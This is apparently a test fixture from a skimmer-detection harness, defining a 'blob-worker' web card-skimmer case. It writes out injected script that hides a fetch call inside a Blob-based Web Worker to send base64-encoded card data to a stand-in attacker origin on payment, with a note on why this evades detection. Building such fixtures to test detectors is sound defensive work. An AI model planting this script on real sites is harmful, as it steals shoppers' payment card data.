import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'blob-worker',
  why: 'A worker made of a Blob sends it: the code has no address and the request belongs to no page.',
  covers: ['sending: fetch', 'obfuscation: eval'],
  base: 'direct',
  install: (site) =>
    site.inline(js`window._w = new Worker(URL.createObjectURL(new Blob(["onmessage=function(e){fetch('${site.origins.evil}/w?x='+encodeURIComponent(btoa(e.data)),{mode:'no-cors'})}"])));
${onPay(js`_w.postMessage(card());`)}`),
  proof: holds((arrived) => query(arrived, 'x').map(base64)),
});
